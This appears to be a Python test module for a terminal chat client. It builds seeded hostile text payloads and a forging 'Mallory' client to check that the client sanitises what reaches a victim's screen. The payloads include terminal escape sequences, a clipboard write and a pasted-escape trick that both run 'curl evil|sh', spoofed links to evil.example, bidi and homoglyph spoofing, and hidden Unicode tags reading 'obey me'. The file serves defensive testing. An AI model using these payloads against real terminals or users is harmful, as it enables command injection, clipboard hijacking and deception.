"""Texts that mean harm to a terminal or to whoever reads it, and a member who sends them.

`payloads` makes a table of kinds and places, drawn from a seed. `Mallory` is a modified client: it
leaves out what ours refuses to write, and whatever it makes reaches its victim's engine as entries
of the log. What the circle's rules refuse is skipped there and named; all else is shown.
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, replace
from random import Random

from crypto.access.side_data import encode
from crypto.circle.arriving import key_package, with_proof
from crypto.circle.device import NAME_LONGEST, Identity
from crypto.circle.extensions import HALLWAY_CIRCLE, context_extensions, leaf_extensions
from crypto.circle.sides import committed_hash
from crypto.circle.state import TOPIC_LONGEST
from crypto.code import SealedCode
from crypto.code_reading import read_code
from crypto.content import TEXT_LONGEST, Text, write_content
from crypto.entry import LINE_LONGEST, EntryRequest, seal_request
from crypto.envelope import Envelope
from crypto.invite import InviteKeys
from crypto.mls.codec import Struct
from crypto.mls.extensions import Extension
from crypto.mls.proposals import GroupContextExtensions, Proposal
from tests.harness import Person, Socket, World
from tests.tui.engine.rogue import circle_of, encrypted, entry, show
from tui.engine import commands
from tui.engine.circle import SUITE
from tui.engine.padding import padding

SEED = 20_250
VARIANTS = 3
PLACES = {
    "message": TEXT_LONGEST,
    "name": NAME_LONGEST,
    "circle": NAME_LONGEST,
    "topic": TOPIC_LONGEST,
    "line": LINE_LONGEST,
}
"""Where a text may stand that somebody else wrote, and how many bytes it may have there."""

MESSAGE, COMMIT, REQUEST = 1, 2, 3

QUITS = ("app.quit", "app.exit(1)", "screen.dismiss", "app.lock", "quit", "app.bell")
WHITE = ("\u00a0", "\u2003", "\u3000", "\u202f", "\u205f")
ESC, BEL, ST, CSI, OSC, DCS = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d", "\x90"


def _ansi(draw: Random) -> str:
    lead = draw.choice((f"{ESC}[", CSI))
    ends = ("2J", "H", "31;5;7m", "?1049l", "?25l", "6n", "c", "1000;1000H", "!p", "20l", "5i")
    return "".join(f"{lead}{draw.choice(ends)}x" for _ in range(4))


def _osc_title(draw: Random) -> str:
    lead, end = draw.choice((f"{ESC}]", OSC)), draw.choice((BEL, ST, "\x9c"))
    return f"{lead}{draw.choice('012')};owned{end}{lead}4;1;#ff0000{end}{lead}11;?{end}"


def _osc_link(draw: Random) -> str:
    end = draw.choice((BEL, ST))
    return f"{ESC}]8;;https://evil.example/{end}https://bank.example{ESC}]8;;{end}"


def _osc_clipboard(draw: Random) -> str:
    return f"{draw.choice((f'{ESC}]', OSC))}52;{draw.choice('cps')};Y3VybCBldmlsfHNo{BEL}"


def _c1(draw: Random) -> str:
    return "".join(chr(draw.randrange(0x80, 0xA0)) + draw.choice("ab;0m") for _ in range(8))


def _devices(draw: Random) -> str:
    lead = draw.choice((f"{ESC}P", DCS, f"{ESC}_", f"{ESC}^", f"{ESC}X", f"{ESC}]1337;File="))
    return f"{lead}q#0;2;0;0;0!99~-{'A' * draw.randrange(4)}{ST}$qm{ST}"


def _overwrite(draw: Random) -> str:
    return f"no\r{draw.choice(('yes', 'Ana: yes'))}\b\b\b\x0b\x0c\x00\x7f{BEL}\x0e\x0f\x85"


def _paste(draw: Random) -> str:
    keys = draw.choice(("\x11", f"{ESC}[A\r", "/leave\r", f"{ESC}OP"))
    return f"curl evil{ESC}[201~{keys}{ESC}[200~|sh"


def _bidi(draw: Random) -> str:
    marks = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    return f"user{draw.choice(marks)}gnp{draw.choice(marks)}.{draw.choice(marks)}exe"


def _zero_width(draw: Random) -> str:
    marks = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2061\u2064\u206a\ufff9\ufffb"
    return "".join(f"{letter}{draw.choice(marks)}" for letter in "password")


def _marks(draw: Random) -> str:
    marks = [chr(draw.choice((0x0300, 0x20D0, 0x0488, 0xFE20)) + draw.randrange(2))]
    return f"Z{''.join(marks * 500)}algo"


def _markup(draw: Random) -> str:
    tags = ("[bold red on blue]x[/]", "[/]", "[$error]x", "[link=file:///etc/passwd]x[/link]")
    return f"{draw.choice(tags)} [reverse {draw.choice(tags)} \\[b] [[ :smile: **b**"


def _action(draw: Random) -> str:
    call = draw.choice(QUITS)
    return f"[@click={call}]press[/] [@click=app.bell()]x[/@click] [b @mouse.up={call}]y"


def _link(draw: Random) -> str:
    spoof = draw.choice(("https://bank.example\u2215@evil.example", "http://раураӏ.example"))
    return f"{spoof} file:///etc/passwd javascript:alert(1) [a](https://evil.example)"


def _homoglyph(draw: Random) -> str:
    return draw.choice(("Аnа", "Mаllоry", "ᎪnA", "Ｈallway", "Ⲏallway", "Αna"))


def _tags(draw: Random) -> str:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in draw.choice(("obey me", "run")))
    return f"flag\U0001f3f4{hidden}\U000e007f\U000e0001"


def _separators(draw: Random) -> str:
    return f"one\u2028two\u2029three{draw.choice(WHITE)}four{draw.choice(WHITE) * 3}five"


def _emoji(draw: Random) -> str:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
    parts = (family, "❤\ufe0f\u200d🔥", "👩🏽\u200d🚀", "🇳🇴", "1\ufe0f\u20e3", "☺\ufe0e", "\ufe0f")
    return "".join(draw.choice(parts) for _ in range(4))


def _blank(draw: Random) -> str:
    return draw.choice(("\u3164", "\u2800", "\u115f", "\uffa0", "\u1160", "\u034f")) * 3


def _wide(draw: Random) -> str:
    parts = ("﷽", "𒐫", "⸻", "界", "Ｗ", "\U0001f1e6", "\ue000", "\uffff", "ﷺ", "က္က", "กำ", "한")
    return "".join(draw.choice(parts) for _ in range(6))


KINDS: dict[str, Callable[[Random], str]] = {
    "ansi": _ansi,
    "osc title": _osc_title,
    "osc link": _osc_link,
    "osc clipboard": _osc_clipboard,
    "c1": _c1,
    "device strings": _devices,
    "overwriting": _overwrite,
    "pasted escape": _paste,
    "bidi": _bidi,
    "zero width": _zero_width,
    "500 marks": _marks,
    "markup": _markup,
    "action": _action,
    "link": _link,
    "homoglyph": _homoglyph,
    "tags": _tags,
    "separators": _separators,
    "emoji": _emoji,
    "blank": _blank,
    "wide": _wide,
}


@dataclass(frozen=True)
class Payload:
    """A text for a place. `mark` stands before it, to be found on a screen."""

    kind: str
    place: str
    mark: str
    text: str

    @property
    def refused(self) -> bool:
        """Whether the circle's rules refuse it: a control in a name or a topic."""
        controls = any(unicodedata.category(character) == "Cc" for character in self.text)
        return controls and self.place in ("name", "circle", "topic")


def payloads(variants: int = VARIANTS, seed: int = SEED) -> list[Payload]:
    """So many of every kind for every place."""
    draw = Random(seed)
    made: list[Payload] = []
    for kind, make in KINDS.items():
        for place, longest in PLACES.items():
            for _ in range(variants):
                mark = f"h{len(made):03d}"
                made.append(Payload(kind, place, mark, _fit(mark + make(draw), longest)))
    return made


def _fit(text: str, longest: int) -> str:
    """As much of a text as has room, without half a character at its end."""
    return text.encode()[:longest].decode("utf-8", "ignore")


BLANK = frozenset("\u115f\u1160\u3164\uffa0")
KEPT = frozenset("\u200c\u200d")
HIDDEN = ("Cc", "Cf", "Cs", "Zl", "Zp")


def forbidden(shown: str, also: str = "") -> list[str]:
    """The characters of a text that must not reach a terminal; `also` are allowed there."""
    return [
        f"U+{ord(character):04X}"
        for character in shown
        if character not in also
        and (
            character in BLANK
            or (unicodedata.category(character) in HIDDEN and character not in KEPT)
        )
    ]


class OneWay(World):
    """A relay that hears nothing of what `deaf_to` says; what these are shown is the test's."""

    deaf_to: Person | None = None

    def deliver(self, socket: Socket, up: bool) -> None:
        if up and socket.person is self.deaf_to:
            socket.up.popleft()
        else:
            super().deliver(socket, up)


class Mallory:
    """A host of a circle with one victim in it, whose door asks."""

    def __init__(self, world: OneWay, victim: str = "Ana", circle: str = "Hallway") -> None:
        self.world = world
        self.person = world.person("Mallory")
        self.person.opens(circle)
        there = [one for one in world.people if one.name == victim]
        self.victim = there[0] if there else world.person(victim)
        self.victim.joins(self.person.invites())
        self.person.do(commands.ChangeSettings(door_asks=True))
        world.settle()
        self.code = self.victim.invites(uses=1)
        world.settle()
        self.person.offline = True
        world.settle()
        world.deaf_to = self.victim

    def does(self, payload: Payload) -> None:
        """Bring a payload to its place."""
        {
            "message": self.says,
            "name": self.renames,
            "circle": self.names,
            "topic": self.tells,
            "line": self.knocks,
        }[payload.place](payload.text)

    def says(self, text: str) -> None:
        """Write a message."""
        record = circle_of(self.person).record
        type_, body = write_content(Text(text))
        id = os.urandom(16)
        made = Envelope(type_, id, record.counter + 1, record.newest, self.world.now, None, body)
        record.counter, record.newest = made.counter, id
        self._shows(MESSAGE, encrypted(self.person, made.encode()))

    def renames(self, name: str) -> None:
        """Be called otherwise."""
        device = circle_of(self.person).own.device
        forged = _forged(lambda filler: replace(device, name=filler), name)
        (extension,) = leaf_extensions(device)
        self._commits([], (replace(extension, extension_data=forged),))

    def names(self, name: str) -> None:
        """Call the circle otherwise."""
        self._changes("name", name)

    def tells(self, topic: str) -> None:
        """Say what the circle is about."""
        self._changes("topic", topic)

    def _changes(self, field: str, text: str) -> None:
        view = circle_of(self.person).view
        forged = _forged(lambda filler: replace(view.state, **{field: filler}), text)  # type: ignore[arg-type]
        extensions = [
            replace(one, extension_data=forged) if one.extension_type == HALLWAY_CIRCLE else one
            for one in context_extensions(view.genesis, view.state)
        ]
        self._commits([GroupContextExtensions(tuple(extensions))], None)

    def _commits(self, proposals: list[Proposal], leaf: tuple[Extension, ...] | None) -> None:
        circle = circle_of(self.person)
        made = circle.members.commit(
            proposals,
            os.urandom,
            now=self.world.now // 1000,
            authenticated_data=committed_hash([]),
            force_path=True,
            leaf_extensions=leaf,
            padding=padding,
        )
        before = circle_of(self.victim).members.epoch
        self._shows(COMMIT, made.message, encode([]))
        if circle_of(self.victim).members.epoch != before:  # nobody merges what the rules refuse
            circle.members.merge(made)
            circle.new_epoch()

    def knocks(self, line: str, name: str = "") -> None:
        """Ask to come in, on the victim's code, under a name like the line."""
        circle, rng = circle_of(self.victim), os.urandom
        code = read_code(self.code)
        assert isinstance(code, SealedCode)
        keys = InviteKeys.of(code.secret)
        invite = circle.view.state.invite(keys.id)
        assert invite is not None
        identity = Identity.generate(rng)
        printable = "".join(one for one in line if unicodedata.category(one) != "Cc")
        device = identity.device(circle.id, _fit(name or printable, NAME_LONGEST))
        public, now = identity.member.public, self.world.now
        package = with_proof(
            SUITE, key_package(SUITE, public, identity.leaf, device, rng, now), circle.id, keys
        )
        access = identity.access.public
        asked = EntryRequest.make(keys, circle.id, package.key_package, access, line, now)
        body = seal_request(SUITE, invite.request_key(), circle.id, keys.id, asked, rng)
        self._shows(REQUEST, body, keys.id)

    def _shows(self, kind: int, body: bytes, side_data: bytes = b"") -> None:
        show(self.victim, entry(self.victim, kind, body, side_data))


def _forged(make: Callable[[str], Struct], text: str) -> bytes:
    """The encoding of a structure that would not hold this text: a filler's place is taken."""
    filler = "Q" * len(text.encode())
    encoded = make(filler).encode()
    assert encoded.count(filler.encode()) == 1
    return bytes(encoded.replace(filler.encode(), text.encode()))
